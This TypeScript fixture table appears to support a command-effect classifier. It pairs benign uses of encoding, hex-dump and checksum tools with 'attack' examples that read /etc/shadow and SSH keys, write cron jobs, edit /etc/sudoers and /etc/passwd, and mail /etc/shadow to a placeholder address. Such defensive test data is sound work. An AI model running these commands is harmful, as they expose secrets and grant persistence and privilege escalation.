import type { ExampleTable } from './example.ts'

export const encodersAndChecksums: ExampleTable = {
  'ascii-xfr': {
    use: 'ascii-xfr -s notes.txt → read notes.txt',
    attack: [
      'ascii-xfr -s /etc/shadow → read /etc/shadow',
      'ascii-xfr -r /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  ascii85: {
    use: 'ascii85 notes.txt → read notes.txt',
    attack: 'ascii85 /etc/shadow → read /etc/shadow',
  },
  atobm: { use: 'atobm star.txt → read star.txt' },
  base100: {
    use: 'base100 notes.txt → read notes.txt',
    attack: 'base100 /etc/shadow → read /etc/shadow',
  },
  base16: {
    use: 'base16 notes.txt → read notes.txt',
    attack: 'base16 /etc/shadow → read /etc/shadow',
  },
  base45: {
    use: 'base45 notes.txt → read notes.txt',
    attack: 'base45 /etc/shadow → read /etc/shadow',
  },
  base58: {
    use: 'base58 notes.txt → read notes.txt',
    attack: 'base58 /etc/shadow → read /etc/shadow',
  },
  base64: {
    use: 'base64 notes.txt → read notes.txt',
    attack: [
      'base64 /etc/shadow → read /etc/shadow',
      'base64 -d -i job.b64 -o /etc/cron.d/job → read job.b64; write /etc/cron.d/job',
    ],
  },
  base85: {
    use: 'base85 notes.txt → read notes.txt',
    attack: 'base85 /etc/shadow → read /etc/shadow',
  },
  basenc: {
    use: 'basenc --base32 notes.txt → read notes.txt',
    attack: 'basenc --base16 /etc/shadow → read /etc/shadow',
  },
  basez: {
    use: 'basez notes.txt → read notes.txt',
    attack: 'basez /etc/shadow → read /etc/shadow',
  },
  bmtoa: { use: 'bmtoa star.xbm → read star.xbm' },
  chardet: { use: 'chardet notes.txt → nothing' },
  chardetect: { use: 'chardetect notes.txt → nothing' },
  deco: { use: 'deco notes.txt → read notes.txt', attack: 'deco /etc/shadow → read /etc/shadow' },
  enca: {
    use: [
      'enca -L polish notes.txt → read notes.txt',
      'enca -L polish -x UTF-8 notes.txt → read notes.txt; write notes.txt',
    ],
    attack: 'enca -L none -x UTF-8 /etc/sudoers → write /etc/sudoers',
  },
  enconv: {
    use: 'enconv -L polish notes.txt → edit notes.txt',
    attack: 'enconv -L none -x UTF-8 /etc/sudoers → edit /etc/sudoers',
  },
  ftfy: {
    use: 'ftfy notes.txt → read notes.txt',
    attack: [
      'ftfy /etc/shadow → read /etc/shadow',
      'ftfy -o /etc/cron.d/job notes.txt → read notes.txt; write /etc/cron.d/job',
    ],
  },
  iconv: {
    use: 'iconv -f latin1 -t utf8 notes.txt → read notes.txt',
    attack: [
      'iconv -t utf16 /etc/shadow → read /etc/shadow',
      'iconv -f utf8 -t utf8 -o /etc/cron.d/job notes.txt → read notes.txt; write /etc/cron.d/job',
    ],
  },
  luit: {
    use: 'luit -encoding ISO-8859-1 cat notes.txt → read notes.txt',
    attack: [
      'luit cat /etc/shadow → read /etc/shadow',
      'luit -olog /etc/cron.d/job cat job.txt → read job.txt; write /etc/cron.d/job',
    ],
  },
  mimencode: {
    use: 'mimencode notes.txt → read notes.txt',
    attack: [
      'mimencode /etc/shadow → read /etc/shadow',
      'mimencode -u -o /etc/cron.d/job job.b64 → read job.b64; write /etc/cron.d/job',
    ],
  },
  mmencode: {
    use: 'mmencode notes.txt → read notes.txt',
    attack: [
      'mmencode /etc/shadow → read /etc/shadow',
      'mmencode -u -o /etc/cron.d/job job.b64 → read job.b64; write /etc/cron.d/job',
    ],
  },
  native2ascii: {
    use: 'native2ascii -encoding UTF-8 notes.txt out.txt → read notes.txt; write out.txt',
    attack: 'native2ascii /etc/shadow out.txt → read /etc/shadow; write out.txt',
  },
  piconv: {
    use: 'piconv -f latin1 -t utf8 notes.txt → read notes.txt',
    attack: 'piconv -f utf8 -t utf16 /etc/shadow → read /etc/shadow',
  },
  qprint: {
    use: 'qprint -e notes.txt out.txt → read notes.txt; write out.txt',
    attack: [
      'qprint -e /etc/shadow out.txt → read /etc/shadow; write out.txt',
      'qprint -d job.qp /etc/cron.d/job → read job.qp; write /etc/cron.d/job',
    ],
  },
  uchardet: { use: 'uchardet notes.txt → nothing' },
  uconv: {
    use: 'uconv -f latin1 -t utf8 notes.txt → read notes.txt',
    attack: [
      'uconv -x upper /etc/shadow → read /etc/shadow',
      'uconv -o /etc/cron.d/job notes.txt → read notes.txt; write /etc/cron.d/job',
    ],
  },
  uniname: {
    use: 'uniname notes.txt → read notes.txt',
    attack: 'uniname /etc/shadow → read /etc/shadow',
  },
  uudecode: {
    use: 'uudecode -o photo.jpg photo.uu → read photo.uu; write photo.jpg',
    attack: 'uudecode -o /etc/cron.d/job job.uu → read job.uu; write /etc/cron.d/job',
  },
  uudeview: {
    use: 'uudeview -i -p found mail.txt → read mail.txt; unpack found',
    attack: 'uudeview -i -p /etc/cron.d mail.txt → read mail.txt; unpack /etc/cron.d',
  },
  uuencode: {
    use: 'uuencode photo.jpg photo.jpg → read photo.jpg',
    attack: 'uuencode /etc/shadow notes → read /etc/shadow',
  },
  uuenview: {
    use: 'uuenview -b photo.jpg → read photo.jpg',
    attack: 'uuenview -b -m eve@example.org /etc/shadow → read /etc/shadow',
  },
  ydecode: { use: 'ydecode photo.ync → read photo.ync' },
  yenc: { use: 'yenc notes.txt → read notes.txt', attack: 'yenc /etc/shadow → read /etc/shadow' },
  z85: { use: 'z85 notes.txt → read notes.txt', attack: 'z85 /etc/shadow → read /etc/shadow' },
  bless: {
    use: 'bless notes.txt → edit notes.txt',
    attack: 'bless /etc/sudoers → edit /etc/sudoers',
  },
  bvi: {
    use: 'bvi disk.img → edit disk.img',
    attack: [
      'bvi /etc/sudoers → edit /etc/sudoers',
      `bvi -c '!/tmp/x' disk.img → run /tmp/x; edit disk.img`,
    ],
  },
  dumpasn1: {
    use: 'dumpasn1 cert.der → read cert.der',
    attack: 'dumpasn1 -a /root/.ssh/id_rsa → read /root/.ssh/id_rsa',
  },
  ghex: { use: 'ghex notes.txt → edit notes.txt', attack: 'ghex /etc/sudoers → edit /etc/sudoers' },
  hexdump: {
    use: 'hexdump -C disk.img → read disk.img',
    attack: [
      'hexdump -C /etc/shadow → read /etc/shadow',
      'hexdump -f /etc/shadow notes.txt → read /etc/shadow; read notes.txt',
    ],
  },
  hexedit: {
    use: 'hexedit notes.txt → edit notes.txt',
    attack: 'hexedit /etc/sudoers → edit /etc/sudoers',
  },
  hexyl: {
    use: 'hexyl notes.txt → read notes.txt',
    attack: 'hexyl /etc/shadow → read /etc/shadow',
  },
  hte: { use: 'hte notes.txt → edit notes.txt', attack: 'hte /etc/sudoers → edit /etc/sudoers' },
  od: { use: 'od notes.txt → read notes.txt', attack: 'od /etc/shadow → read /etc/shadow' },
  okteta: {
    use: 'okteta notes.txt → edit notes.txt',
    attack: 'okteta /etc/sudoers → edit /etc/sudoers',
  },
  strings: {
    use: 'strings notes.txt → read notes.txt',
    attack: 'strings /etc/shadow → read /etc/shadow',
  },
  xd: { use: 'xd notes.txt → read notes.txt', attack: 'xd /etc/shadow → read /etc/shadow' },
  xxd: {
    use: 'xxd disk.img disk.hex → read disk.img; write disk.hex',
    attack: [
      'xxd /etc/shadow → read /etc/shadow',
      'xxd -r job.hex /etc/cron.d/job → read job.hex; write /etc/cron.d/job',
    ],
  },
  b3sum: { use: 'b3sum -c sums.txt → nothing' },
  cfv: { use: 'cfv -f sums.sfv → nothing' },
  hashdeep: {
    use: 'hashdeep -r -k sums.txt src → nothing',
    attack: [
      'hashdeep -f /etc/shadow → read /etc/shadow',
      'hashdeep -r -W /etc/passwd src → write /etc/passwd',
    ],
  },
  jacksum: {
    use: 'jacksum -a sha256 -o sums.txt src → write sums.txt',
    attack: 'jacksum -a sha256 -O /etc/passwd src → write /etc/passwd',
  },
  md5sum: {
    use: 'md5sum -c sums.txt → nothing',
    attack: 'md5sum --check --quiet /etc/shadow → use /etc/shadow',
  },
  rhash: {
    use: ['rhash -c sums.txt → nothing', 'rhash --sha256 -o sums.txt src → write sums.txt'],
    attack: [
      'rhash -u /etc/sudoers src → edit /etc/sudoers',
      'rhash -o /etc/passwd src → write /etc/passwd',
    ],
  },
  sha3sum: { use: 'sha3sum -a 256 -c sums.txt → nothing' },
  ssdeep: { use: 'ssdeep -m hashes.txt src → nothing' },
  xxhsum: { use: 'xxhsum -c sums.txt → nothing' },
  dmtxread: { use: 'dmtxread a.png → read a.png' },
  qrencode: {
    use: 'qrencode -o out.png hello → write out.png',
    attack: [
      'qrencode -t ANSI -r /etc/shadow → read /etc/shadow',
      'qrencode -r /etc/shadow -o out.png → read /etc/shadow; write out.png',
    ],
  },
  zbarimg: { use: 'zbarimg a.png → read a.png' },
}
